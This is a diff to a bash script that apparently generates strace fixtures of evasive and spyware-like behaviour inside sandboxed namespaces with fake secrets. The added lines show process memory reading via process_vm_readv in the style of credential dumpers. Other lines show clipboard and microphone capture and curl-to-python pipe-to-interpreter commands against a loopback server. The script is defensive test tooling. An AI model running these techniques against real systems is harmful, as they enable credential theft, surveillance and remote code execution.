@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -21,6 +21,8 @@
 #   spy_tools (needs xclip, alsa-utils): sh runs xclip -o (the clipboard read; no X server,
 #     so it fails to connect to /tmp/.X11-unix/X0) and arecord (no sound card: it fails); the
 #     negative: xclip -i, a write to the clipboard.
+#   process_vm_readv: python3 forks a child, reads its /proc/PID/maps and 64 bytes of its
+#     memory with process_vm_readv (no ptrace attach: what credential dumpers use).
 #   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
 #     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
 #     http.server on 127.0.0.1:18556 serving a one-line stage.
@@ -78,6 +80,21 @@ run f_tt_T_y_daemon_masquerade.txt -f -tt -T -y -s 96 -- /bin/sh -c \
    /bin/bash -c "exec -a sleep /usr/bin/sleep 0.1"'
 run f_tt_T_y_spy_tools.txt -f -tt -T -y -s 96 -e trace=process,network -- /bin/sh -c \
   'DISPLAY=:0 xclip -o -selection clipboard; arecord -q -d 1 -f cd /tmp/mic.wav; DISPLAY=:0 xclip -selection clipboard -i /dev/null'
+cat > $H/peek.py <<'PY'
+import ctypes, os, time
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+pid = os.fork()
+if pid == 0:
+    time.sleep(0.5)
+    os._exit(0)
+start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
+buf = ctypes.create_string_buffer(64)
+local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(ctypes.c_void_p(start), 64)
+print("read", ctypes.CDLL(None).process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
+os.waitpid(pid, 0)
+PY
+run f_tt_T_y_process_vm_readv.txt -f -tt -T -y -e trace=process,file,process_vm_readv -- /usr/bin/python3 $H/peek.py
 cat > $H/updater.py <<'PY'
 import os
 URL = "http://127.0.0.1:18556/stage.py"
